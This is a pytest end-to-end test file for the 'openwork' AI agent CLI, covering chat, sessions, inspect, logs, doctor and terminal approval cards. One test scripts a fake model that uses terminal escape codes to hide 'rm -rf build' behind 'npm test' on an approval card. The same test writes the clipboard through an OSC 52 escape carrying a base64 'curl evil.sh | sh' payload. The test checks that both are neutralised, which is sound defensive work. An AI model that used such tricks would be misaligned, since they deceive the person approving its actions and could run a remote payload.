"""The `openwork` CLI as a user runs it: subprocesses against a real daemon (`openwork serve`
as a subprocess, PostgreSQL, the scripted fake provider over loopback) — issue 15 point 2."""

from __future__ import annotations

import asyncio
import json
import signal
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import pytest_asyncio

from tests.e2e.conftest import provider_env
from tests.fakes.fake_provider import FakeProvider
from tests.fakes.fake_script import ErrorReply, Gate, Held, Reply, ToolCallSpec
from tests.support.cli import cli_env, run_cli
from tests.support.daemon import Daemon, start_daemon
from tests.support.ports import refused_port
from tests.support.postgres import PgCluster
from tests.support.pty_cli import PtyCli

pytestmark = pytest.mark.asyncio(loop_scope="module")


@dataclass
class Shared:
    daemon: Daemon
    fake: FakeProvider
    database_url: str


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(
    pg_cluster: PgCluster, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Shared]:
    """One daemon for the module (each test uses its own project folder and script)."""
    home = tmp_path_factory.mktemp("cli") / "home"
    database_url = await pg_cluster.new_database()
    with FakeProvider() as fake:
        daemon = await start_daemon(home=home, database_url=database_url, env=provider_env(fake))
        try:
            yield Shared(daemon, fake, database_url)
        finally:
            assert await daemon.stop() == 0


@pytest_asyncio.fixture(loop_scope="module")
async def daemon(shared: Shared) -> AsyncIterator[Daemon]:
    yield shared.daemon
    assert shared.fake.remaining_steps == 0
    assert shared.fake.violations == []


@pytest.fixture
def fake_provider(shared: Shared) -> FakeProvider:
    return shared.fake


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "README.md").write_text("# Project X\n")
    return folder


async def test_chat_streams_the_answer_and_one_line_per_tool_call_and_exits_zero(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2 chat: the text, then a tool line (name, short arguments, outcome); exit 0."""
    fake_provider.push(
        Reply(tool_calls=(ToolCallSpec("call_1", "read", {"path": "README.md"}),)),
        Reply(text="It is Project X."),
    )
    run = await run_cli("chat", "what is this?", home=daemon.home, cwd=project)
    assert run.code == 0, run.stderr
    lines = run.stdout.splitlines()
    assert lines[0].startswith("+ read README.md -> succeeded")
    assert lines[-1] == "It is Project X."
    assert "\x1b[" not in run.stdout  # not a TTY: plain output


async def test_chat_prints_each_warning_once_in_one_line_with_the_fix(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 24 point 4: the provider counts 12 input tokens for a request of thousands — each
    of the turn's two model calls raises ``input_truncation_suspected``; chat prints it once,
    in one line, with what to change."""
    fake_provider.push(
        Reply(tool_calls=(ToolCallSpec("call_w", "read", {"path": "README.md"}),), input_tokens=12),
        Reply(text="Done.", input_tokens=12),
    )
    run = await run_cli("chat", "what is this?", home=daemon.home, cwd=project)
    assert run.code == 0, run.stderr
    warnings = [line for line in run.stdout.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 1, run.stdout
    assert "reported 12 input tokens" in warnings[0]
    assert "OPENWORK_MODEL_CONTEXT_WINDOW" in warnings[0]


async def test_chat_shows_a_commands_output_live_before_its_tool_line(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §5: bash output arrives as tool_call_progress and chat prints it as it runs."""
    command = "echo live-one; echo live-two >&2"
    fake_provider.push(
        Reply(tool_calls=(ToolCallSpec("call_live", "bash", {"command": command}),)),
        Reply(text="Ran it."),
    )
    run = await run_cli("chat", "run it", home=daemon.home, cwd=project)
    assert run.code == 0, run.stderr
    lines = run.stdout.splitlines()
    tool = next(i for i, line in enumerate(lines) if line.startswith("+ bash "))
    assert {"  | live-one", "  | live-two"} <= set(lines[:tool])
    assert "-> succeeded [exit 0; duration " in lines[tool]


async def test_chat_continues_the_folders_latest_session_and_new_starts_another(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2: `chat` continues this folder's latest session; `--new` creates one."""
    fake_provider.push(Reply(text="one"), Reply(text="two"), Reply(text="three"))
    first = await run_cli("chat", "alpha-question", home=daemon.home, cwd=project)
    second = await run_cli("chat", "beta-question", home=daemon.home, cwd=project)
    third = await run_cli("chat", "--new", "gamma-question", home=daemon.home, cwd=project)
    assert [first.code, second.code, third.code] == [0, 0, 0]
    sid = [r.stderr.split()[1] for r in (first, second, third)]
    assert sid[0] == sid[1] != sid[2]
    listed = await run_cli("sessions", "--json", home=daemon.home)
    sessions = json.loads(listed.stdout)["sessions"]
    by_id = {s["session_id"]: s for s in sessions if s["workspace"] == str(project)}
    assert set(by_id) == {sid[0], sid[2]}
    assert by_id[sid[0]]["title"] == "alpha-question"
    assert by_id[sid[0]]["status"] == "idle"
    assert by_id[sid[0]]["workspace"] == str(project)
    # the second message went into the first session: its request carried the first exchange
    assert "alpha-question" in json.dumps(fake_provider.bodies[-2]["messages"])
    assert "alpha-question" not in json.dumps(fake_provider.bodies[-1]["messages"])


async def test_a_failed_turn_exits_non_zero_with_its_error_code(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2: non-zero exit with the error code when the turn does not complete."""
    fake_provider.push(ErrorReply(status=400, code="bad_request", message="refused by the fake"))
    run = await run_cli("chat", "hello", home=daemon.home, cwd=project)
    assert run.code == 1
    assert "turn failed (model_error)" in run.stderr
    assert "Traceback" not in run.stderr


async def test_sessions_lists_id_title_folder_activity_and_status_as_tab_separated_lines(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2 sessions: plain, parseable output when not on a TTY."""
    fake_provider.push(Reply(text="hi"))
    assert (await run_cli("chat", "Fix the build\nplease", home=daemon.home, cwd=project)).code == 0
    run = await run_cli("sessions", home=daemon.home, env={"NO_COLOR": "1"})
    assert run.code == 0
    header, *rows = run.stdout.splitlines()
    assert header.split("\t") == ["id", "title", "folder", "last activity", "status"]
    assert all(len(row.split("\t")) == 5 for row in rows)
    (cells,) = [row.split("\t") for row in rows if row.split("\t")[2] == str(project)]
    assert cells[0].startswith("ses_")
    assert cells[1:3] == ["Fix the build", str(project)]
    assert cells[4] == "idle"


async def test_inspect_shows_the_window_bar_world_state_sections_and_largest_items(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2 inspect; daemon-api.md §3 figures, the same as `--json`."""
    fake_provider.push(Reply(text="hi"))
    assert (await run_cli("chat", "hello", home=daemon.home, cwd=project)).code == 0
    as_json = await run_cli("inspect", "--json", home=daemon.home, cwd=project)
    body = json.loads(as_json.stdout)
    budget = body["budget"]
    run = await run_cli("inspect", home=daemon.home, cwd=project)
    assert run.code == 0, run.stderr
    lines = run.stdout.splitlines()
    assert lines[1].startswith("[") and lines[1].endswith("]")
    assert set(lines[1][1:-1]) <= set("SCTR.")
    assert "auto-compact at" in lines[2] and "|" in lines[2]
    assert f"  S System        {budget['system_context_tokens']:>9}" in lines
    assert f"  C Conversation  {budget['conversation_tokens']:>9}" in lines
    assert f"  T Tools         {budget['tool_surface_tokens']:>9}" in lines
    world = lines[lines.index("World State:") + 1 : lines.index("Largest items:")]
    assert any("user-project-context" in line for line in world)
    usage_at = lines.index("Provider-reported usage:")
    assert usage_at - lines.index("Largest items:") - 1 == 5
    last = body["usage"]["last_call"]["call"]
    assert lines[usage_at + 1].startswith(
        f"  last call: {last['usage']['input_tokens']} input tokens reported"
    )


async def test_inspect_open_prints_the_context_page_with_the_token_in_the_fragment(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 16 point 4: `openwork inspect --open` passes the token in the URL fragment."""
    fake_provider.push(Reply(text="hi"))
    assert (await run_cli("chat", "hello", home=daemon.home, cwd=project)).code == 0
    run = await run_cli("inspect", "--open", home=daemon.home, cwd=project, env={"BROWSER": "true"})
    assert run.code == 0, run.stderr
    url = run.stdout.strip().splitlines()[-1]
    assert url.startswith(f"{daemon.url}/ui/#token=")
    assert "&session=ses_" in url


async def test_status_reports_the_running_daemon_and_stop_ends_it_cleanly(
    pg_cluster: PgCluster, tmp_path: Path
) -> None:
    """Issue 15 §2 status / stop; daemon-api.md §1: SIGTERM exits 0 and removes daemon.json."""
    daemon = await start_daemon(
        home=tmp_path / "home", database_url=await pg_cluster.new_database()
    )
    status = await run_cli("status", "--json", home=daemon.home)
    assert status.code == 0, status.stderr
    report = json.loads(status.stdout)
    assert report["url"] == daemon.url
    assert report["pid"] == daemon.process.pid
    assert report["health"]["database"] == "ok"
    stopped = await run_cli("stop", home=daemon.home)
    assert stopped.code == 0, stopped.stderr
    assert not (daemon.home / "daemon.json").exists()  # `stop` returns once it is gone
    async with asyncio.timeout(20):
        assert await daemon.process.wait() == 0
    assert not (daemon.home / "daemon.json").exists()
    after = await run_cli("status", home=daemon.home)
    assert after.code == 3
    assert "no daemon is running" in after.stderr


async def test_logs_prints_the_daemons_log_lines_readably_and_as_json(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2 logs: the JSON log file under OPENWORK_HOME/logs, rendered or raw."""
    fake_provider.push(Reply(text="hi"))
    assert (await run_cli("chat", "hello", home=daemon.home, cwd=project)).code == 0
    raw = await run_cli("logs", "--json", "-n", "200", home=daemon.home)
    events = [json.loads(line)["event"] for line in raw.stdout.splitlines()]
    assert "daemon.listening" in events
    assert "turn.finished" in events
    readable = await run_cli("logs", "-n", "200", home=daemon.home)
    assert any(" INFO    turn.finished " in line for line in readable.stdout.splitlines())


async def test_client_commands_without_a_daemon_say_so_in_one_line(tmp_path: Path) -> None:
    """Issue 15 §2: found through daemon.json; none → exit 3, one line, no traceback."""
    for command in ("chat", "sessions", "status", "inspect"):
        args = (command, "hi") if command == "chat" else (command,)
        run = await run_cli(*args, home=tmp_path / "empty-home", cwd=tmp_path)
        assert run.code == 3, (command, run.stderr)
        assert len(run.stderr.strip().splitlines()) == 1
        assert "start it with `openwork serve`" in run.stderr


async def test_version_prints_the_distribution_version(tmp_path: Path) -> None:
    """Issue 15 §2: `openwork --version`."""
    from openwork_core.version import app_version

    run = await run_cli("--version", home=tmp_path)
    assert (run.code, run.stdout) == (0, f"openwork {app_version()}\n")


# -- on a terminal -----------------------------------------------------------------------------
async def test_on_a_tty_chat_shows_the_approval_card_and_asks_and_an_allowed_call_runs(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2: approval cards are shown and asked on a TTY (permissions-sandbox.md §5)."""
    (project / "build").mkdir()
    fake_provider.push(
        Reply(tool_calls=(ToolCallSpec("call_rm", "bash", {"command": "rm -rf build"}),)),
        Reply(text="Removed the build folder."),
    )
    cli = await PtyCli.start("chat", "clean up", home=daemon.home, cwd=project)
    try:
        await cli.wait_for("allow once? [y/N]")
        assert "approval needed: bash" in cli.text
        assert "command: rm -rf build" in cli.text
        assert "danger: rm_recursive_or_force" in cli.text
        cli.type("y\r")
        assert await cli.exit_code() == 0
    finally:
        cli.close()
    assert "Removed the build folder." in cli.text
    assert "✓ bash rm -rf build" in cli.text
    assert not (project / "build").exists()


async def test_on_a_tty_the_model_cannot_hide_a_cards_command_or_drive_the_terminal(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """The model is untrusted: its text, tool output and the command a card asks about reach
    the terminal with their control characters shown, not obeyed. On the old code the card's
    ``rm -rf build`` was erased on screen by ``ESC [2K`` + CR, leaving only ``npm test`` before
    "allow once?", and the answer's OSC 52 wrote the terminal's clipboard."""
    (project / "build").mkdir()
    hidden = "rm -rf build\x1b[2K\rnpm test"
    clipboard = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    fake_provider.push(
        Reply(
            text=f"Cleaning up.{clipboard} ",
            tool_calls=(ToolCallSpec("call_rm", "bash", {"command": hidden}),),
        )
    )
    cli = await PtyCli.start("chat", "clean up", home=daemon.home, cwd=project)
    try:
        await cli.wait_for("allow once? [y/N]")
        cli.type("n\r")
        await cli.exit_code()
    finally:
        cli.close()
    assert "build\x1b[2K" not in cli.raw and "\x1b]52" not in cli.raw  # (rich's own ESC stay)
    assert "command: rm -rf build\\x1b[2K\\x0dnpm test" in cli.text
    assert "Cleaning up.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in cli.text
    assert (project / "build").exists()  # denied


async def test_on_a_tty_ctrl_c_cancels_the_running_turn_and_the_exit_code_says_cancelled(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2: Ctrl-C cancels the turn (session-runtime.md §3 cancelled); exit 130."""
    gate = Gate()
    fake_provider.push(Held(Reply(text="too late"), gate))
    before = len(fake_provider.requests)
    cli = await PtyCli.start("chat", "take your time", home=daemon.home, cwd=project)
    try:
        await fake_provider.wait_for_requests(before + 1, timeout=30)
        cli.interrupt()
        assert await cli.exit_code() == 130
    finally:
        gate.release()
        cli.close()
    assert "cancelling the turn" in cli.text
    assert "turn cancelled" in cli.text


async def test_on_a_tty_a_second_ctrl_c_while_cancelling_exits_at_once(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2: a second Ctrl-C exits. The daemon is paused (SIGSTOP) so that the cancel
    cannot complete before the second Ctrl-C arrives."""
    gate = Gate()
    fake_provider.push(Held(Reply(text="too late"), gate))
    before = len(fake_provider.requests)
    cli = await PtyCli.start("chat", "take your time", home=daemon.home, cwd=project)
    try:
        # this turn's own model call is held now (not a late request of an earlier test)
        count = before + 1
        async with asyncio.timeout(30):
            while not any(
                b"take your time" in r.raw
                for r in (await fake_provider.wait_for_requests(count, timeout=30))[before:]
            ):
                count += 1
        daemon.process.send_signal(signal.SIGSTOP)
        try:
            cli.interrupt()
            await cli.wait_for("cancelling the turn")
            cli.interrupt()
            assert await cli.exit_code() == 130
        finally:
            daemon.process.send_signal(signal.SIGCONT)
    finally:
        gate.release()
        cli.close()
    assert "interrupted" in cli.text


# -- doctor, the interactive prompt, logs -f ------------------------------------------------------
async def test_doctor_passes_when_a_turn_can_run_and_masks_the_secrets(
    shared: Shared, tmp_path: Path
) -> None:
    """Issue 15 §2 doctor without a daemon: database + migrations, provider reachable + key,
    model, sandbox, skills, the effective configuration with secrets masked; exit 0 when
    nothing blocks a turn."""
    env = provider_env(shared.fake) | {
        "OPENWORK_DATABASE_URL": shared.database_url.replace(
            "postgresql://", "postgresql://postgres:pw-secret@", 1
        )
        if "@" not in shared.database_url
        else shared.database_url,
        "OPENWORK_TOKEN": "token-secret",
    }
    run = await run_cli("doctor", "--json", home=tmp_path / "no-daemon-here", env=env)
    report = json.loads(run.stdout)
    verdicts = {c["name"]: c["verdict"] for c in report["checks"]}
    assert run.code == 0, report
    assert report["ok"] is True
    assert {
        k: verdicts[k]
        for k in (
            "configuration",
            "database",
            "migrations",
            "provider",
            "api key",
            "model",
            "sandbox",
            "daemon",
        )
    } == {
        "configuration": "ok",
        "database": "ok",
        "migrations": "ok",
        "provider": "ok",
        "api key": "ok",
        "model": "ok",
        "sandbox": "ok",
        "daemon": "ok",
    }
    configuration = report["configuration"]
    assert configuration["OPENWORK_PROVIDER_API_KEY"] == "********"
    assert configuration["OPENWORK_TOKEN"] == "********"
    assert "pw-secret" not in run.stdout and "token-secret" not in run.stdout
    assert "fake-key" not in run.stdout
    assert configuration["OPENWORK_MODEL"] == "fake-model"


async def test_doctor_asks_the_running_daemon_not_its_own_environment(shared: Shared) -> None:
    """Issue 24 point 5: a daemon runs on a provider from its own environment; doctor in a shell
    without any provider variable reports the daemon's provider, database, sandbox and settings
    (its listen address, not the default), says so, and passes."""
    run = await run_cli("doctor", "--json", home=shared.daemon.home, env={})
    report = json.loads(run.stdout)
    assert run.code == 0, report
    checks = {c["name"]: c for c in report["checks"]}
    assert "asked over its API" in checks["daemon"]["detail"]
    assert checks["database"]["verdict"] == "ok"
    assert checks["provider"]["verdict"] == "ok"
    assert checks["provider"]["detail"].startswith("default: openai-chat at ")
    assert "no provider" not in run.stdout
    assert report["configuration"]["OPENWORK_LISTEN"] == "127.0.0.1:0"  # the daemon's own
    assert report["configuration"]["OPENWORK_PROVIDER_API_KEY"] == "********"
    assert report["configuration"]["OPENWORK_TOKEN"] == "********"


async def test_doctor_fails_when_something_would_block_a_turn(
    shared: Shared, pg_cluster: PgCluster, tmp_path: Path
) -> None:
    """Issue 15 §2 doctor: non-zero exit — here no provider at all (a fresh database, nothing
    in the environment), and an unreachable one."""
    base = {"OPENWORK_DATABASE_URL": await pg_cluster.new_database()}
    none = await run_cli("doctor", home=tmp_path / "h1", env=base)
    assert none.code == 1
    assert any(line.startswith("fail  provider") for line in none.stdout.splitlines())
    with refused_port() as port:
        gone = (
            provider_env(shared.fake)
            | base
            | {"OPENWORK_PROVIDER_BASE_URL": f"http://127.0.0.1:{port}/v1"}
        )
        unreachable = await run_cli("doctor", home=tmp_path / "h2", env=gone)
    assert unreachable.code == 1
    assert any(
        line.startswith("fail  provider") and "not reachable" in line
        for line in unreachable.stdout.splitlines()
    )


async def test_chat_without_a_message_is_a_prompt_with_history(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2: without MESSAGE an interactive prompt; history kept across runs."""
    fake_provider.push(Reply(text="first answer"), Reply(text="second answer"))
    cli = await PtyCli.start("chat", home=daemon.home, cwd=project)
    try:
        await cli.wait_for("› ")
        cli.type("question one\r")
        await cli.wait_for("first answer")
        cli.type("question two\r")
        await cli.wait_for("second answer")
        cli.type("/exit\r")
        assert await cli.exit_code() == 0
    finally:
        cli.close()
    history = (daemon.home / "chat_history").read_text()
    assert "question one" in history and "question two" in history


async def test_no_color_on_a_terminal_gives_plain_output(
    daemon: Daemon, fake_provider: FakeProvider, project: Path
) -> None:
    """Issue 15 §2: NO_COLOR → plain, parseable output even on a TTY."""
    fake_provider.push(
        Reply(tool_calls=(ToolCallSpec("call_nc", "read", {"path": "README.md"}),)),
        Reply(text="plain."),
    )
    cli = await PtyCli.start(
        "chat", "read it", home=daemon.home, cwd=project, env={"NO_COLOR": "1"}
    )
    try:
        assert await cli.exit_code() == 0
    finally:
        cli.close()
    assert "+ read README.md -> succeeded" in cli.text
    assert "\x1b[3" not in cli.raw  # no colour codes
    assert "✓" not in cli.text


async def test_logs_follow_prints_new_lines_as_they_are_written(
    daemon: Daemon, project: Path
) -> None:
    """Issue 15 §2: `openwork logs -f`; Ctrl-C (SIGINT) ends it with 0. The follower is
    started with SIGINT at its default: a suite run as a shell's background job ignores SIGINT,
    and an ignored signal stays ignored across exec (the follower then never saw it)."""
    inherited = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:  # a handler is reset to the default at exec; an ignored signal is not
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            "-m",
            "openwork_core.cli",
            "logs",
            "-f",
            "-n",
            "0",
            env=cli_env(daemon.home),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )
    finally:
        signal.signal(signal.SIGINT, inherited)
    assert process.stdout is not None
    try:
        async with asyncio.timeout(30):
            while True:  # each status run adds lines; wait until one shows up in the follower
                assert (await run_cli("status", home=daemon.home)).code == 0
                try:
                    async with asyncio.timeout(2):
                        line = (await process.stdout.readline()).decode()
                except TimeoutError:
                    continue
                if "http.request" in line:
                    break
        assert "route=/v1/health" in line or "route=/v1/sessions" in line
    finally:
        process.send_signal(signal.SIGINT)
        async with asyncio.timeout(20):  # drain both pipes: a follower blocked on a full one
            await process.communicate()  # never exits (asyncio's Process.wait warns of it)
    assert process.returncode == 0
